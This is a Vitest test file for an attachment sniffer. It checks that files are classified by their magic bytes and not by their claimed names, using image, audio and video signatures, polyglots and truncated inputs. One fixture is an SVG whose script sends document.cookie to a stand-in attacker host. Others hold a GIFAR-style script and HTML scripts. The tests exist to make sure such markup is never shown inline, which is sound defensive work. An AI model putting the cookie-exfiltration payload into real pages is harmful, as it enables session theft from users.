// The attachment sniffer decides from bytes alone what may be shown inline. Each case is real magic bytes (as the
// format specifications define them) or a polyglot; the file name a case carries is what an archive would claim.
import { describe, expect, test } from 'vitest';
import { DOWNLOAD_TYPE, sniffMedia, type MediaKind } from '../../../src/lib/media/sniff';

const bytes = (...parts: (string | number[])[]): Uint8Array =>
	Uint8Array.from(parts.flatMap((p) => (typeof p === 'string' ? [...p].map((c) => c.charCodeAt(0)) : p)));
const utf8 = (s: string) => new TextEncoder().encode(s);
const u32le = (n: number) => [n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, (n >>> 24) & 0xff];
const u32be = (n: number) => [(n >>> 24) & 0xff, (n >> 16) & 0xff, (n >> 8) & 0xff, n & 0xff];
const ftyp = (major: string, ...compatible: string[]) => bytes(u32be(16 + 4 * compatible.length), 'ftyp', major, [0, 0, 0, 0], ...compatible);

const PNG = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0, 0, 0, 13], 'IHDR', [0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
const JPEG = bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], 'JFIF', [0]);
const BMP = bytes('BM', u32le(70), [0, 0, 0, 0], u32le(54), u32le(40), u32le(1), u32le(1), [1, 0, 24, 0]);
const SCRIPT_SVG = utf8(
	'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>'
);
const SCRIPT_HTML = utf8('<!doctype html><html><body><script>navigator.storage.getDirectory()</script></body></html>');

interface Case {
	name: string;
	claimed: string;
	head: Uint8Array;
	kind: MediaKind;
	type: string;
	label?: RegExp;
}

const CASES: Case[] = [
	{ name: 'PNG signature and IHDR', claimed: 'IMG-1.png', head: PNG, kind: 'image', type: 'image/png' },
	{ name: 'JPEG/JFIF', claimed: 'IMG-2.jpg', head: JPEG, kind: 'image', type: 'image/jpeg' },
	{ name: 'JPEG/Exif', claimed: 'IMG-3.jpeg', head: bytes([0xff, 0xd8, 0xff, 0xe1, 0x00, 0x18], 'Exif'), kind: 'image', type: 'image/jpeg' },
	{ name: 'GIF87a', claimed: 'a.gif', head: bytes('GIF87a', [1, 0, 1, 0]), kind: 'image', type: 'image/gif' },
	{ name: 'GIF89a', claimed: 'STK-1.gif', head: bytes('GIF89a', [1, 0, 1, 0]), kind: 'image', type: 'image/gif' },
	{ name: 'WebP lossy', claimed: 'STK-2.webp', head: bytes('RIFF', u32le(100), 'WEBPVP8 '), kind: 'image', type: 'image/webp' },
	{ name: 'WebP lossless', claimed: 'x.webp', head: bytes('RIFF', u32le(100), 'WEBPVP8L'), kind: 'image', type: 'image/webp' },
	{ name: 'BMP with a BITMAPINFOHEADER', claimed: 'x.bmp', head: BMP, kind: 'image', type: 'image/bmp' },
	{ name: 'AVIF', claimed: 'x.avif', head: ftyp('avif', 'mif1', 'miaf'), kind: 'image', type: 'image/avif' },
	{ name: 'HEIC (browsers do not show it)', claimed: 'IMG_1.HEIC', head: ftyp('heic', 'mif1', 'heic'), kind: 'file', type: DOWNLOAD_TYPE, label: /HEIC/ },
	{ name: 'MP4 isom', claimed: 'VID-1.mp4', head: ftyp('isom', 'isom', 'iso2', 'avc1', 'mp41'), kind: 'video', type: 'video/mp4' },
	{ name: 'QuickTime', claimed: 'IMG_2.MOV', head: ftyp('qt  ', 'qt  '), kind: 'video', type: 'video/quicktime' },
	{ name: '3GP', claimed: 'v.3gp', head: ftyp('3gp4', 'isom', '3gp4'), kind: 'video', type: 'video/3gpp' },
	{ name: 'M4A', claimed: 'AUD-1.m4a', head: ftyp('M4A ', 'M4A ', 'mp42', 'isom'), kind: 'audio', type: 'audio/mp4' },
	{
		name: 'WebM',
		claimed: 'v.webm',
		head: bytes([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x84], 'webm'),
		kind: 'video',
		type: 'video/webm'
	},
	{
		name: 'Matroska (not WebM)',
		claimed: 'v.mkv',
		head: bytes([0x1a, 0x45, 0xdf, 0xa3, 0xa3, 0x42, 0x82, 0x88], 'matroska'),
		kind: 'file',
		type: DOWNLOAD_TYPE
	},
	{ name: 'Ogg Opus voice note', claimed: 'PTT-1.opus', head: bytes('OggS', [0, 2], [0, 0, 0, 0, 0, 0, 0, 0]), kind: 'audio', type: 'audio/ogg' },
	{ name: 'MP3 with ID3', claimed: 'a.mp3', head: bytes('ID3', [4, 0, 0, 0, 0, 0, 0]), kind: 'audio', type: 'audio/mpeg' },
	{ name: 'MP3 frame without ID3', claimed: 'a.mp3', head: bytes([0xff, 0xfb, 0x90, 0x64]), kind: 'audio', type: 'audio/mpeg' },
	{ name: 'AAC ADTS', claimed: 'a.aac', head: bytes([0xff, 0xf1, 0x50, 0x80, 0x02, 0x1f, 0xfc]), kind: 'audio', type: 'audio/aac' },
	{ name: 'WAV', claimed: 'a.wav', head: bytes('RIFF', u32le(100), 'WAVEfmt '), kind: 'audio', type: 'audio/wav' },
	{ name: 'FLAC', claimed: 'a.flac', head: bytes('fLaC', [0, 0, 0, 34]), kind: 'audio', type: 'audio/flac' },
	{ name: 'PDF', claimed: 'invoice.pdf', head: utf8('%PDF-1.7\n%\u00e2\u00e3'), kind: 'file', type: DOWNLOAD_TYPE, label: /PDF/ },
	{ name: 'DOCX (a zip)', claimed: 'terms.docx', head: bytes('PK', [3, 4, 20, 0]), kind: 'file', type: DOWNLOAD_TYPE },
	{ name: 'TIFF (browsers do not show it)', claimed: 'scan.tif', head: bytes('II*', [0, 8, 0, 0, 0]), kind: 'file', type: DOWNLOAD_TYPE },
	{
		name: 'vCard',
		claimed: 'Dana.vcf',
		head: utf8('BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Dana\r\nEND:VCARD\r\n'),
		kind: 'text',
		type: DOWNLOAD_TYPE,
		label: /^text$/
	},
	// Polyglots and lies: the name never decides.
	{ name: 'SVG with a script, named .jpg', claimed: 'IMG-4.jpg', head: SCRIPT_SVG, kind: 'text', type: DOWNLOAD_TYPE, label: /markup/ },
	{ name: 'SVG with a script, named .svg', claimed: 'x.svg', head: SCRIPT_SVG, kind: 'text', type: DOWNLOAD_TYPE, label: /markup/ },
	{ name: 'HTML with a script, named .png', claimed: 'IMG-5.png', head: SCRIPT_HTML, kind: 'text', type: DOWNLOAD_TYPE, label: /markup/ },
	{
		name: 'HTML behind a UTF-8 BOM and blank lines',
		claimed: 'x.gif',
		head: utf8('\uFEFF\n\n  <html><script>1</script>'),
		kind: 'text',
		type: DOWNLOAD_TYPE,
		label: /markup/
	},
	{ name: 'a PNG named .svg', claimed: 'x.svg', head: PNG, kind: 'image', type: 'image/png' },
	{
		name: 'a GIF header with HTML after it (GIFAR-style)',
		claimed: 'x.html',
		head: bytes('GIF89a', '<script>alert(1)</script>'),
		kind: 'image',
		type: 'image/gif'
	},
	{ name: 'RIFF that is neither WebP nor WAV', claimed: 'x.webp', head: bytes('RIFF', u32le(100), 'WEBPXXXX'), kind: 'file', type: DOWNLOAD_TYPE },
	{ name: '"BM" text is not a bitmap', claimed: 'x.bmp', head: utf8('BM is short for bowel movement, says the text file'), kind: 'text', type: DOWNLOAD_TYPE },
	{
		name: 'ftyp with a box size that is no box size',
		claimed: 'v.mp4',
		head: bytes([0, 0, 0, 3], 'ftypisom', [0, 0, 0, 0]),
		kind: 'file',
		type: DOWNLOAD_TYPE
	},
	// Empty and truncated.
	{ name: 'empty', claimed: 'IMG-6.jpg', head: new Uint8Array(0), kind: 'file', type: DOWNLOAD_TYPE, label: /empty/ },
	{ name: 'PNG signature cut after 4 bytes', claimed: 'IMG-7.png', head: PNG.subarray(0, 4), kind: 'file', type: DOWNLOAD_TYPE },
	{ name: 'JPEG cut after 2 bytes', claimed: 'IMG-8.jpg', head: JPEG.subarray(0, 2), kind: 'file', type: DOWNLOAD_TYPE },
	{ name: 'GIF cut inside its version', claimed: 'a.gif', head: bytes('GIF8'), kind: 'text', type: DOWNLOAD_TYPE },
	{ name: 'WebP cut before its chunk', claimed: 'a.webp', head: bytes('RIFF', u32le(100), 'WEB'), kind: 'file', type: DOWNLOAD_TYPE },
	{ name: 'BMP cut inside its DIB header', claimed: 'a.bmp', head: BMP.subarray(0, 20), kind: 'file', type: DOWNLOAD_TYPE },
	{ name: 'random binary', claimed: 'IMG-9.jpg', head: bytes([0x00, 0x13, 0x37, 0xfe, 0x00, 0x01]), kind: 'file', type: DOWNLOAD_TYPE }
];

describe('sniffMedia', () => {
	test.each(CASES)('$name (named $claimed) → $kind $type', ({ head, kind, type, label }) => {
		const sniffed = sniffMedia(head);
		expect({ kind: sniffed.kind, type: sniffed.type }).toEqual({ kind, type });
		if (label) expect(sniffed.label).toMatch(label);
	});

	test('only image, audio and video kinds carry a type other than octet-stream', () => {
		for (const c of CASES) {
			const s = sniffMedia(c.head);
			if (s.kind === 'image') expect(s.type).toMatch(/^image\/(png|jpeg|gif|webp|bmp|avif)$/);
			else if (s.kind === 'audio' || s.kind === 'video') expect(s.type).toMatch(/^(audio|video)\//);
			else expect(s.type).toBe(DOWNLOAD_TYPE);
		}
	});
});
